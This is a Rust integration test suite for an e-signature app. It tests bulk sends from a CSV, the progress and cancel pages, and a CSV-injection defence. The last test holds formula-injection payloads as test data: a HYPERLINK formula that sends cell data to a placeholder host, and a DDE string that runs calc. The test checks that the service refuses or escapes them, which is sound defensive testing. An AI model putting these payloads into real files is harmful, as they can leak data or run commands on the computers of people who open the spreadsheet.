//! Bulk send in the console (issue #32): a CSV checked on the template's page (the preview
//! names each bad row and nothing is created), sent from the preview's Send, made by a real
//! `signet-worker --jobs bulk,email` while the progress page follows it; cancel from that page.

use reqwest::header;
use signet_tests::{Mailbox, TestApp, WorkerProcess, described_by, eventually};
use uuid::Uuid;

use crate::{
    bulk_sends::template,
    console::{Browser, Page},
    sender_workflow::WAIT,
};

impl Browser<'_> {
    /// Checks `csv` with the template's "Send to a list" form (a multipart upload).
    async fn check_list(&mut self, template: &str, csrf: &str, csv: &str) -> Page {
        let cookie: Vec<String> = self
            .cookies
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect();
        let form = reqwest::multipart::Form::new()
            .text("csrf", csrf.to_owned())
            .text("message", "Please sign the list's lease.")
            .text("expiry", "2099-01-01T12:00")
            .part(
                "file",
                reqwest::multipart::Part::bytes(csv.as_bytes().to_vec())
                    .file_name("tenants.csv")
                    .mime_str("text/csv")
                    .unwrap(),
            );
        let response = self
            .app
            .client
            .post(format!(
                "{}/app/templates/{template}/bulk-sends/preview",
                self.app.base
            ))
            .header(header::COOKIE, cookie.join("; "))
            .multipart(form)
            .send()
            .await
            .unwrap();
        Page {
            status: response.status(),
            location: None,
            set_cookies: Vec::new(),
            body: response.text().await.unwrap(),
        }
    }
}

/// The value of the hidden input `name` of the page's first form that has one.
fn hidden(page: &Page, name: &str) -> String {
    let marker = format!(r#"name="{name}" value=""#);
    let at = page
        .body
        .find(&marker)
        .unwrap_or_else(|| panic!("no {name} in {}", page.body));
    let rest = &page.body[at + marker.len()..];
    rest[..rest.find('"').unwrap()].to_owned()
}

async fn count(app: &TestApp, sql: &'static str, account: Uuid) -> i64 {
    sqlx::query_scalar(sql)
        .bind(account)
        .fetch_one(&app.db.pool)
        .await
        .unwrap()
}

const DOCUMENTS: &str = "SELECT count(*) FROM documents WHERE account_id = $1";
const BULK_SENDS: &str = "SELECT count(*) FROM bulk_sends WHERE account_id = $1";

/// A bad row is named in the preview and nothing is created; the list fixed, its Send goes to
/// the progress page, which a worker's run brings to COMPLETED with the counts.
#[tokio::test]
async fn a_list_is_checked_then_sent_and_followed_from_the_console() {
    let app = TestApp::spawn().await;
    let mailbox = Mailbox::start().await;
    let (account, key) = app.account(1000).await;
    let template = template(&app, account, &key, &[("ann@example.com", "Tenant")]).await;
    let mut browser = Browser::signed_in_as(&app, account).await;

    let page = browser.get(&format!("/app/templates/{template}")).await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("Send to a list"), "{}", page.body);
    assert!(page.body.contains("Tenant.email"), "{}", page.body);
    let header_csv = browser
        .get(&format!("/app/templates/{template}/bulk-sends/header.csv"))
        .await;
    assert_eq!(header_csv.status, 200);
    assert_eq!(
        header_csv.body.lines().next().unwrap(),
        "Tenant.name,Tenant.email,Tenant.countryCode,Tenant.phoneNumber,Tenant.language"
    );
    let csrf = page.csrf();

    let bad = "Tenant.name,Tenant.email\nZoë Ñúñez,zoe@example.com\nBob,not-an-address\n";
    let refused = browser.check_list(&template, &csrf, bad).await;
    assert_eq!(refused.status, 400, "{}", refused.body);
    assert!(
        refused.body.contains("Nothing was sent"),
        "{}",
        refused.body
    );
    let problems = &refused.body[refused.body.find(r#"id="problems""#).unwrap()..];
    assert!(
        problems.contains(">2<"),
        "the row, as the API numbers it: {problems}"
    );
    assert!(problems.contains("Tenant.email"), "{problems}");
    assert!(problems.contains("(line 3)"), "{problems}");
    assert_eq!(count(&app, BULK_SENDS, account).await, 0);
    let before = count(&app, DOCUMENTS, account).await;

    let good = "Tenant.name,Tenant.email\nZoë Ñúñez,zoe@example.com\nBob,bob@example.com\n";
    let ready = browser.check_list(&template, &csrf, good).await;
    assert_eq!(ready.status, 200, "{}", ready.body);
    assert!(
        ready.body.contains("2 rows ready</strong>"),
        "{}",
        ready.body
    );
    assert_eq!(
        count(&app, BULK_SENDS, account).await,
        0,
        "a preview creates nothing"
    );

    let confirm = [
        ("csrf", csrf.clone()),
        ("id", hidden(&ready, "id")),
        ("csv", hidden(&ready, "csv")),
        ("message", hidden(&ready, "message")),
        ("expiry", hidden(&ready, "expiry")),
    ];
    let confirm: Vec<(&str, &str)> = confirm.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let sent = browser
        .post(&format!("/app/templates/{template}/bulk-sends"), &confirm)
        .await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    let location = sent.location.unwrap();
    assert!(location.starts_with("/app/bulk-sends/"), "{location}");
    // A second click of the same Send shows the same bulk send.
    let again = browser
        .post(&format!("/app/templates/{template}/bulk-sends"), &confirm)
        .await;
    assert_eq!(again.location.as_deref(), Some(location.as_str()));
    assert_eq!(count(&app, BULK_SENDS, account).await, 1);

    let running = browser.get(&location).await;
    assert_eq!(running.status, 200, "{}", running.body);
    assert!(running.body.contains("RUNNING"), "{}", running.body);
    assert!(running.body.contains("<progress"), "{}", running.body);
    assert!(
        running.body.contains("bulk-progress.mjs"),
        "{}",
        running.body
    );
    let json = browser.get(&format!("{location}/progress.json")).await;
    assert!(json.body.contains(r#""status":"RUNNING""#), "{}", json.body);

    let worker =
        WorkerProcess::start_with_args(&app, &mailbox.url(), &["--jobs", "bulk,email"], &[]);
    let done = eventually(
        described_by(|| format!("the bulk send to complete; worker log:\n{}", worker.log())),
        WAIT,
        || {
            let mut browser = Browser {
                app: browser.app,
                cookies: browser.cookies.clone(),
            };
            let location = location.clone();
            async move {
                let page = browser.get(&location).await;
                page.body.contains("COMPLETED").then_some(page)
            }
        },
    )
    .await;
    assert!(
        done.body
            .contains(r#"<span id="created">2</span> made and sent"#),
        "{}",
        done.body
    );
    assert!(
        done.body.contains(r#"value="2""#),
        "the bar is full: {}",
        done.body
    );
    assert!(!done.body.contains("Cancel the rest"), "{}", done.body);
    assert!(!done.body.contains("bulk-progress.mjs"), "{}", done.body);
    assert_eq!(count(&app, DOCUMENTS, account).await, before + 2);
    let mails = mailbox
        .wait_for(2, WAIT, |m| m.to.ends_with("@example.com"))
        .await;
    assert!(
        mails
            .iter()
            .all(|m| m.text.contains("Please sign the list's lease."))
    );

    // Another account's bulk send: not found.
    let (other, _) = app.account(1000).await;
    let mut stranger = Browser::signed_in_as(&app, other).await;
    assert_eq!(stranger.get(&location).await.status, 404);
    assert_eq!(
        stranger
            .get(&format!("{location}/progress.json"))
            .await
            .status,
        404
    );
}

/// Cancelled from its progress page before any worker runs: every row CANCELLED, nothing made.
#[tokio::test]
async fn a_list_is_cancelled_from_its_progress_page() {
    let app = TestApp::spawn().await;
    let (account, key) = app.account(1000).await;
    let template = template(&app, account, &key, &[("ann@example.com", "Tenant")]).await;
    let mut browser = Browser::signed_in_as(&app, account).await;
    let page = browser.get(&format!("/app/templates/{template}")).await;
    let csrf = page.csrf();
    let csv =
        "Tenant.name,Tenant.email\nAnn,ann@example.com\nBob,bob@example.com\nCy,cy@example.com\n";
    let ready = browser.check_list(&template, &csrf, csv).await;
    assert_eq!(ready.status, 200, "{}", ready.body);
    let sent = browser
        .post(
            &format!("/app/templates/{template}/bulk-sends"),
            &[
                ("csrf", &csrf),
                ("id", &hidden(&ready, "id")),
                ("csv", &hidden(&ready, "csv")),
                ("message", &hidden(&ready, "message")),
                ("expiry", &hidden(&ready, "expiry")),
            ],
        )
        .await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    let location = sent.location.unwrap();
    let before = count(&app, DOCUMENTS, account).await;

    let running = browser.get(&location).await;
    assert!(running.body.contains("Cancel the rest"), "{}", running.body);
    let forged = browser
        .post(&format!("{location}/cancel"), &[("csrf", "wrong")])
        .await;
    assert_eq!(forged.status, 403);
    let cancelled = browser
        .post(&format!("{location}/cancel"), &[("csrf", &csrf)])
        .await;
    assert_eq!(cancelled.status, 303, "{}", cancelled.body);
    assert_eq!(cancelled.location.as_deref(), Some(location.as_str()));

    let page = browser.get(&location).await;
    assert!(page.body.contains("CANCELLED"), "{}", page.body);
    assert!(
        page.body.contains(r#"<span id="cancelled">3</span>"#),
        "{}",
        page.body
    );
    assert!(!page.body.contains("Cancel the rest"), "{}", page.body);
    let rows: Vec<String> = sqlx::query_scalar(
        "SELECT r.status FROM bulk_send_rows r JOIN bulk_sends b ON b.id = r.bulk_send_id
         WHERE b.account_id = $1",
    )
    .bind(account)
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(rows, ["CANCELLED"; 3]);
    assert_eq!(count(&app, DOCUMENTS, account).await, before);
}

/// A one-page PDF showing `text` in Helvetica at the top left, as someone else's PDF with a
/// text tag would.
fn pdf_showing(text: &str) -> Vec<u8> {
    use lopdf::{
        Document, Object, Stream,
        content::{Content, Operation},
        dictionary,
    };
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let font = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
    });
    let content = Content {
        operations: vec![
            Operation::new("BT", vec![]),
            Operation::new("Tf", vec!["F1".into(), 12.into()]),
            Operation::new("Td", vec![72.into(), 700.into()]),
            Operation::new("Tj", vec![Object::string_literal(text)]),
            Operation::new("ET", vec![]),
        ],
    };
    let contents = doc.add_object(Stream::new(dictionary! {}, content.encode().unwrap()));
    let page = doc.add_object(dictionary! {
        "Type" => "Page",
        "Parent" => pages_id,
        "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font } },
        "Contents" => contents,
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Count" => 1, "Kids" => vec![page.into()],
        }),
    );
    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    doc.trailer.set("Root", catalog);
    let mut bytes = Vec::new();
    doc.save_to(&mut bytes).unwrap();
    bytes
}

/// CSV injection (issue #48): a role name a spreadsheet would run as a formula is refused
/// wherever a role is named (an update, a template made from a document, by `roles` or after a
/// recipient, a text tag in an uploaded PDF), as is a label beginning with `-`, and nothing
/// changes; a template that holds such a name from before the rule gets a header download whose
/// cells are marked as text, and that header uploaded back still names the role's columns.
#[tokio::test]
async fn names_a_spreadsheet_would_run_are_refused_and_never_written_as_formulas() {
    let app = TestApp::spawn().await;
    let (account, key) = app.account(1000).await;
    let template = template(&app, account, &key, &[("ann@example.com", "Tenant")]).await;
    let (_, before) = app.get(&format!("/templates/{template}"), &key).await;
    let role_reason = "a role's name may not begin with =, +, -, @ or ' (a spreadsheet would \
                       take the CSV header's cell for a formula or a text mark)";
    let label_reason = "a label may not begin with - (a spreadsheet would take the CSV header's cell for a formula)";
    let hyperlink = r#"=HYPERLINK("http://x/"&A2)"#;
    let calc = "@SUM(1+1)*cmd|' /C calc'!A0";

    let roles = |name: &str, label: &str| {
        serde_json::json!({"roles": [{"name": name, "role": "SIGNER", "fields": [
            {"label": label, "type": "TEXT", "page": 1, "x": 72, "y": 100}]}]})
    };
    for (body, field, reason) in [
        (roles(hyperlink, "Company"), "roles[0].name", role_reason),
        (roles(calc, "Company"), "roles[0].name", role_reason),
        (roles("+Tenant", "Company"), "roles[0].name", role_reason),
        (
            roles("Tenant", "-Rent"),
            "roles[0].fields[0].label",
            label_reason,
        ),
    ] {
        let answer = signet_tests::read(
            app.call(
                reqwest::Method::PATCH,
                &format!("/templates/{template}"),
                Some(&key),
                Some(&body),
            )
            .await,
        )
        .await;
        assert_eq!(answer.0, 400, "{body}: {}", answer.1);
        assert_eq!(
            answer.1["errors"],
            serde_json::json!([{"field": field, "reason": reason}]),
            "{body}"
        );
    }
    let (_, after) = app.get(&format!("/templates/{template}"), &key).await;
    assert_eq!(after["data"]["roles"], before["data"]["roles"]);

    // Made from a document: a role named so in `roles`, or after a recipient named so.
    let source =
        crate::sender_workflow::draft(&app, account, &key, &[("bob@example.com", "SIGNER", None)])
            .await;
    let (status, answer) = app
        .post(
            "/templates",
            &key,
            &serde_json::json!({"documentId": source, "roles": {"bob@example.com": calc}}),
        )
        .await;
    assert_eq!(status, 400, "{answer}");
    assert_eq!(
        answer["errors"],
        serde_json::json!([{"field": "roles.bob@example.com", "reason": role_reason}])
    );
    let (status, answer) = app
        .post(
            &format!("/documents/{source}/recipients"),
            &key,
            &serde_json::json!([{"name": "=1+1", "email": "cy@example.com", "role": "SIGNER"}]),
        )
        .await;
    assert_eq!(status, 200, "a recipient's name is theirs: {answer}");
    let (status, answer) = app
        .post(
            "/templates",
            &key,
            &serde_json::json!({"documentId": source}),
        )
        .await;
    assert_eq!(status, 400, "{answer}");
    assert_eq!(
        answer["errors"][0]["field"], "roles.cy@example.com",
        "{answer}"
    );
    assert!(
        answer["errors"][0]["reason"]
            .as_str()
            .unwrap()
            .ends_with("the recipient's name does; name their role in roles"),
        "{answer}"
    );
    let (status, answer) = app
        .post(
            "/templates",
            &key,
            &serde_json::json!({"documentId": source, "roles": {"cy@example.com": "Guarantor"}}),
        )
        .await;
    assert_eq!(status, 200, "named in roles, it is taken: {answer}");

    // A text tag in an uploaded PDF is named with its text.
    let (status, answer) = signet_tests::read(
        app.client
            .post(format!(
                "{}/external/api/v1/templates?fields=tags",
                app.base
            ))
            .header("X-API-KEY", &key)
            .header("Content-Type", "application/pdf")
            .body(pdf_showing(&format!("{{{{text:{calc}}}}}")))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(status, 400, "{answer}");
    assert_eq!(answer["errors"][0]["field"], "tags[0]", "{answer}");
    assert!(
        answer["errors"][0]["reason"]
            .as_str()
            .unwrap()
            .ends_with(role_reason),
        "{answer}"
    );
    let made: i64 = sqlx::query_scalar("SELECT count(*) FROM templates WHERE account_id = $1")
        .bind(account)
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(made, 2, "the first template and the one named in roles");

    // A name stored before the rule: the header download marks each of its cells as text.
    sqlx::query("UPDATE template_roles SET name = $1 WHERE template_id = $2")
        .bind(hyperlink)
        .bind(Uuid::parse_str(&template).unwrap())
        .execute(&app.db.pool)
        .await
        .unwrap();
    let mut browser = Browser::signed_in_as(&app, account).await;
    let header_csv = browser
        .get(&format!("/app/templates/{template}/bulk-sends/header.csv"))
        .await;
    assert_eq!(header_csv.status, 200);
    let marked = |part: &str| format!(r#""'=HYPERLINK(""http://x/""&A2).{part}""#);
    let header = ["name", "email", "countryCode", "phoneNumber", "language"]
        .map(marked)
        .join(",");
    assert_eq!(header_csv.body, format!("{header}\r\n"));
    // Uploaded back with a row, its columns are the role's.
    let (status, answer) = crate::bulk_sends::post_csv(
        &app,
        &key,
        &template,
        "dryRun=true&message=Please%20sign&expiryDate=2099-01-01T00:00:00Z",
        format!("{header}\r\nAnn,ann@example.com,,,\r\n"),
    )
    .await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        answer["data"],
        serde_json::json!({"valid": true, "rows": 1})
    );
}
